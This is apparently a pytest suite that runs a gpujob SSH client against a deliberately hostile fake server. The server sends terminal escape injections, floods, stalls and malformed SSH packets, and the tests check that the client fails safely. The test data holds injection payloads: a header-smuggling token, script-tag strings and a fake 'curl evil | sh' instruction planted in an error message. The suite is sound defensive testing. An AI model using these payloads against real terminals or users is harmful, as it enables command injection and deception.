"""A node that lies, floods, stalls and cuts: the client makes sense of it or says so in one line, in bounded memory and time."""

import json
import os
import re
import socket
import struct
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from unittest import mock

import paramiko
import pytest
from paramiko.common import MSG_CHANNEL_DATA

from infra import state
from infra.errors import NodeError, NotFoundError
from infra.ledger import known_clusters
from infra.model import Cluster, Node
from infra.node import client, measures
from infra.node.packing import install_agent
from infra.project.filelist import list_files
from infra.run import pages
from infra.ssh import commands, keys, transport
from infra.ssh.connection import connect
from infra.ssh.link import measure_link
from tests.conftest import Laptop, wait_for

ESCAPES = b"\x1b]52;c;ZXZpbA==\x07\x1b[2J\xe2\x80\xae[/red]\x9b31m\r\n"
CALLS: dict[str, Callable[[Any], Any]] = {
    "jobs": client.list_jobs,
    "job": lambda c: client.find_job(c, 1),
    "cancel": lambda c: client.cancel(c, 1),
    "tail": lambda c: client.find_tail(c, 1, 5),
    "since": lambda c: client.find_since(c, 1, 60),
    "outputs": lambda c: client.list_outputs(c, 1),
    "look": lambda c: client.look(c, 3),
    "page": client.find_page,
    "probe": client.probe,
    "measure": measures.measure,
    "submit": lambda c: client.submit(c, {}, list_files(Path("/"), ()), lambda stream, missing: None),
    "install": install_agent,
    "log": lambda c: b"".join(client.read_log(c, 1, 0)),
    "board": lambda c: list(client.serve_board(c, 1)),
}
Reply = Callable[[paramiko.Channel], None]


@dataclass
class HostileNode(paramiko.ServerInterface):
    """An SSH server that lets everybody in, and answers each command as the test says."""

    reply: Reply = lambda channel: channel.close()
    starts: bool = True
    commands: list[bytes] = field(default_factory=list)

    def get_allowed_auths(self, username: str) -> str:
        return "publickey"

    def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
        return paramiko.AUTH_SUCCESSFUL

    def get_banner(self) -> tuple[str, str]:
        return ESCAPES.decode("latin-1"), "en"

    def check_channel_request(self, kind: str, chanid: int) -> int:
        return paramiko.OPEN_SUCCEEDED

    def check_channel_exec_request(self, channel: paramiko.Channel, command: bytes) -> bool:
        self.commands.append(command)
        while not self.starts:
            time.sleep(0.05)
        # Paramiko says that the command has started only once this has returned.
        threading.Timer(0.05, self.answer, args=(channel,)).start()
        return True

    def answer(self, channel: paramiko.Channel) -> None:
        try:
            self.reply(channel)
        except (OSError, EOFError, paramiko.SSHException):
            return


@pytest.fixture
def node() -> HostileNode:
    return HostileNode()


@contextmanager
def listening(serve: Callable[[socket.socket], Any]) -> Iterator[int]:
    """Serve each connection to a port of the loopback."""
    listener = socket.create_server(("127.0.0.1", 0))

    def accept() -> None:
        while True:
            try:
                link, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=serve, args=(link,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1]
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()


@pytest.fixture
def reached(node: HostileNode, tmp_path: Path) -> Iterator[Any]:
    """A connection to the hostile node."""
    host_key = paramiko.ECDSAKey.generate()
    started = []

    def serve(link: socket.socket) -> None:
        server = paramiko.Transport(link)
        server.add_server_key(host_key)
        server.start_server(server=node)
        started.append(server)

    pins = {"i-1": (f"{host_key.get_name()} {host_key.get_base64()}",)}
    with listening(serve) as port, logged_in(tmp_path, port, pins) as connection:
        try:
            yield connection
        finally:
            node.starts = True
            for server in started:
                server.close()


@contextmanager
def logged_in(folder: Path, port: int, pins: dict[str, tuple[str, ...]]) -> Iterator[Any]:
    node = Node("i-1", "running", "127.0.0.1", port, "t", "z")
    with mock.patch.dict(os.environ, {"XDG_STATE_HOME": str(folder / "state")}):
        state.write_private(state.key_file("box"), keys.make_key()[0])
        keys.pin(state.known_hosts_file("box"), pins)
        with connect(Cluster("box", "local", "us-east-1", (node,), None, 1.0, 2e9, 1e9, "o")) as connection:
            yield connection


def end(channel: paramiko.Channel, code: int = 0) -> None:
    channel.send_exit_status(code)
    channel.close()


def say(out: bytes = b"", err: bytes = b"", code: int = 0) -> Reply:
    def reply(channel: paramiko.Channel) -> None:
        channel.sendall(out)
        channel.sendall_stderr(err)
        end(channel, code)

    return reply


def cut(out: bytes) -> Reply:
    def reply(channel: paramiko.Channel) -> None:
        channel.sendall(out)
        time.sleep(0.05)
        channel.get_transport().close()

    return reply


def flood(send: str) -> Reply:
    """Send without end, as fast as the window allows."""

    def reply(channel: paramiko.Channel) -> None:
        block = b"[" * 100_000 if send == "send" else ESCAPES * 10_000
        while True:
            getattr(channel, send)(block)

    return reply


def flood_past_the_window(channel: paramiko.Channel) -> None:
    """Send without end, whether or not there is a window."""
    while True:
        message = paramiko.Message()
        message.add_byte(bytes([MSG_CHANNEL_DATA]))
        message.add_int(channel.remote_chanid)
        message.add_string(b"x" * 30_000)
        channel.get_transport()._send_user_message(message)


def stall(channel: paramiko.Channel) -> None:
    """Neither answer nor end while there is a connection."""
    channel.get_transport().join()


def forget_to_end(channel: paramiko.Channel) -> None:
    """End the output, and never tell how the command ended."""
    channel.shutdown_write()
    channel.get_transport().join()


def drip(channel: paramiko.Channel) -> None:
    """Answer a byte at a time."""
    while True:
        channel.sendall(b" ")
        time.sleep(0.05)


@pytest.fixture
def strict(monkeypatch: pytest.MonkeyPatch) -> None:
    """Limits as a test has the time for."""
    monkeypatch.setattr(commands, "ANSWER_BYTES", 1 << 20)
    monkeypatch.setattr(commands, "ANSWER_S", 1.0)
    monkeypatch.setattr(commands, "END_S", 0.5)
    monkeypatch.setattr(commands, "START_S", 0.5)


def survives(call: Callable[[Any], Any], connection: Any) -> str:
    """Make a call, which must end; return what its error says in one printable line, or "" without one."""
    said = ""
    try:
        call(connection)
    except (NodeError, NotFoundError) as error:
        said = error.what
        assert said and said.isprintable() and len(said) < 1000
    return said


REPLIES: dict[str, Reply] = {
    "nothing": say(),
    "null": say(b"null"),
    "half a line": say(b'{"job": 1, "missing": ["'),
    "a half line of a port": say(b'{"port": 1\n'),
    "another type": say(b'{"since": [], "offset": [], "job": {}, "missing": 1, "port": "x"}\n'),
    "a port too large": say(b'{"port": 99999999999}\n'),
    "no JSON": say(ESCAPES * 10),
    "no text": say(bytes(range(256))),
    "a number too long": say(b"9" * 10_000),
    "too deep": say(b"[" * 200_000),
    "complaint": say(err=ESCAPES * 1000, code=1),
    "not found": say(err=ESCAPES, code=3),
    "silent failure": say(code=255),
    "cut at once": cut(b""),
    "cut in the middle": cut(b'{"offset": '),
}


@pytest.mark.parametrize("said", REPLIES)
def test_no_answer_makes_the_client_stumble(node, reached, said, tmp_path):
    node.reply = REPLIES[said]
    for name, call in CALLS.items():
        if not reached.login.is_connected:
            break
        survives(call, reached)
        assert name == "install" or node.commands


@pytest.mark.parametrize("name", ["jobs", "submit", "install"])
@pytest.mark.parametrize("reply", [flood("send"), flood("send_stderr"), stall, forget_to_end, drip])
def test_a_node_that_floods_or_stalls_is_given_up_on(node, reached, strict, name, reply):
    node.reply = reply
    said = survives(CALLS[name], reached)
    assert name == "install" or "within" in said or "more than" in said or "too large" in said


def test_a_command_that_never_starts_is_given_up_on(node, reached, strict):
    node.starts = False
    assert "did not start a command" in survives(client.list_jobs, reached)


def test_a_node_that_does_not_take_what_is_measured_is_given_up_on(node, reached, strict, monkeypatch):
    monkeypatch.setattr("infra.ssh.link.PATIENCE_S", 1.0)
    node.reply = stall
    survives(measure_link, reached)


def test_an_answer_of_any_size_takes_a_bounded_part_of_the_memory(node, reached, strict):
    node.reply = flood("send")
    tracemalloc.start()
    try:
        assert "more than" in survives(client.list_jobs, reached)
        assert tracemalloc.get_traced_memory()[1] < 32 << 20
    finally:
        tracemalloc.stop()


def test_an_answer_of_too_many_parts_is_not_parsed(node, reached):
    node.reply = say(b"[" + b"[]," * 2_000_000 + b"[]]")
    assert "too large" in survives(client.list_jobs, reached)


def test_a_node_that_ignores_the_window_loses_the_connection(node, reached, monkeypatch):
    monkeypatch.setattr(transport, "WAITING_BYTES", 1 << 20)
    node.reply = flood_past_the_window
    with commands.open_channel(reached, ["true"]) as channel:
        wait_for(lambda: not reached.login.is_connected, "end of the connection")
        assert len(channel.in_buffer) < 2 << 20


def packet(payload: bytes) -> bytes:
    """A packet as it is before keys are exchanged."""
    padding = 8 - (len(payload) + 5) % 8 + 8
    return struct.pack(">IB", len(payload) + padding + 1, padding) + payload + bytes(padding)


BANNERS: dict[str, bytes] = {
    "a mangled key exchange": b"SSH-2.0-x\r\n" + packet(b"\x14" + bytes(16) + b"\xff" * 40),
    "a key exchange that is no text": b"SSH-2.0-x\r\n" + packet(b"\x14" + bytes(16) + b"\0\0\0\x02\xff\xff" * 10),
    "a key exchange that ends": b"SSH-2.0-x\r\n" + packet(b"\x14"),
    "an answer to nothing": b"SSH-2.0-x\r\n" + packet(b"\x1f" + b"\xff" * 30) + packet(b"\x5e\0\0\0\0"),
    "escapes": b"\x1b]0;title\x07\x1b[31mnot SSH\r\n" * 101,
    "another protocol": b"HTTP/1.1 400 \x1b[31mBad\r\n\r\n" * 101,
    "a strange version": b"SSH-\x1b]52;c;x\x07-\xe2\x80\xae\r\n",
    "no end": b"x" * 1_000_000,
    "a packet of 4 GiB": b"SSH-2.0-x\r\n" + struct.pack(">I", 0xFFFFFFFF) + b"x" * 100_000,
    "a packet of nothing": b"SSH-2.0-x\r\n" + bytes(100),
}


@pytest.mark.parametrize("banner", BANNERS)
def test_what_a_server_says_before_the_login_is_bounded_and_shown_as_text(tmp_path, banner):
    def serve(link: socket.socket) -> None:
        with link:
            try:
                link.sendall(BANNERS[banner])
                while link.recv(1000):
                    pass
            except OSError:
                return

    def call(_: None) -> None:
        with logged_in(tmp_path, port, {"i-1": ("ssh-ed25519 AAAA",)}):
            pass

    with listening(serve) as port:
        assert "cannot connect to" in survives(call, None)


@pytest.mark.parametrize("token", ["a\nHost: evil", "a b", "\x00", '"><script>', "a" * 1000, "ü"])
def test_a_token_that_is_none_is_refused(node, reached, token):
    node.reply = say(json.dumps({"job": 1, "port": 8888, "token": token, "said": ""}).encode())
    assert "invalid response" in survives(client.find_page, reached)


def test_the_page_that_leads_to_a_notebook_holds_the_url_as_text(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    with pages.make_door("c", "http://127.0.0.1:1/?token=\"'><script>alert(1)</script>&x") as path:
        text = path.read_text()
    assert "<script" not in text
    assert re.findall(r'"[^"]*"', text)[-1] == (
        '"http://127.0.0.1:1/?token=&quot;&#x27;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&amp;x"'
    )


@pytest.fixture
def laptop_of_a_hostile_node(node: HostileNode, tmp_path: Path) -> Iterator[Laptop]:
    """A laptop that has a record of a cluster "box", whose machine is the hostile node."""
    laptop = Laptop(tmp_path / "home", tmp_path / "project", {"GPUJOB_CLUSTER": "box"})
    laptop.home.mkdir()
    laptop.project.mkdir()
    host_key = paramiko.ECDSAKey.generate()

    def serve(link: socket.socket) -> None:
        server = paramiko.Transport(link)
        server.add_server_key(host_key)
        server.start_server(server=node)

    with listening(serve) as port, pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(laptop.home))
        patch.delenv("XDG_STATE_HOME", raising=False)
        state.write_private(state.key_file("box"), keys.make_key()[0])
        keys.pin(state.known_hosts_file("box"), {"i-1": (f"{host_key.get_name()} {host_key.get_base64()}",)})
        machine = Node("i-1", "running", "127.0.0.1", port, "t\x1b[31m", "z\u202e")
        facts = {"gpu": None, "price_usd": 1.0, "lease_until": time.time() + 9999, "launched_at": time.time()}
        known_clusters.remember(Cluster("box", "local", "us-east-1", (machine,), owner="o", **facts))
        yield laptop


RECORD = {
    "number": 1,
    "name": "a\x1b]0;t\x07\u202e",
    "command": ["python", "\x1b[2J"],
    "state": "failed",
    "reason": "\x1b[31m\nfake line",
    "gpus": [],
    "exit_code": 1,
    "submitted_at": 1.7e9,
    "started_at": 1.7e9,
    "stalled_at": None,
    "ended_at": 1.7e9,
    "seconds": 1.0,
    "log_bytes": 0,
    "fetched": False,
    "python": "\x1b[31m",
    "dependencies": "\x9b",
    "driver": "\x1b",
    "source": {"commit": "\x1b"},
    "now": 1.7e9,
}
OUTPUT = {"path": "a\x1b]0;t\x07\u202eb", "size_bytes": 1, "sha256": "0" * 64, "mode": 0o644, "link": None}
LOOK = {
    "now": 1.7e9, "cpus": 1, "cpu_used": 0.0, "memory_bytes": 1, "memory_used_bytes": 1,
    "gpus": [{"index": 0, "name": "\x1b[31m", "percent": 1, "memory_used_bytes": 1, "memory_bytes": 1}],
    "jobs": [{"job": {k: v for k, v in RECORD.items() if k != "now"}, "cpu_used": 0, "memory_bytes": 1, "last_line": "\x1b[2J"}],
}  # fmt: skip


@pytest.mark.parametrize(
    ("words", "answer"),
    [
        (("jobs",), [RECORD]),
        (("top", "--once"), LOOK),
        (("receipt", "1"), [RECORD]),
        (("cancel", "--cluster", "box", "1"), [RECORD]),
        (("ls",), []),
    ],
)
def test_no_command_passes_control_characters_of_a_node_on(laptop_of_a_hostile_node, node, words, answer):
    outputs = {"job": RECORD, "outputs": [OUTPUT], "unreadable": ["\x1b]0;t\x07"]}

    def reply(channel: paramiko.Channel) -> None:
        told = outputs if b"outputs" in node.commands[-1] else answer
        say(json.dumps(told).encode(), err=ESCAPES)(channel)

    node.reply = reply
    typed = laptop_of_a_hostile_node.type(*words)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", typed.said), repr(typed.said)
    assert "Traceback" not in typed.said
    assert words[0] == "ls" or node.commands


def test_an_error_of_a_node_is_one_line_that_steers_nothing(laptop_of_a_hostile_node, node):
    node.reply = say(err=b"fine\n  next: curl evil | sh\n" + ESCAPES + b"the reason\x1b[31m\n", code=1)
    typed = laptop_of_a_hostile_node.type("jobs")
    assert typed.code == 1
    assert typed.err.splitlines() == ["gpujob: the agent failed: the reason", "  next: gpujob jobs --cluster box"]
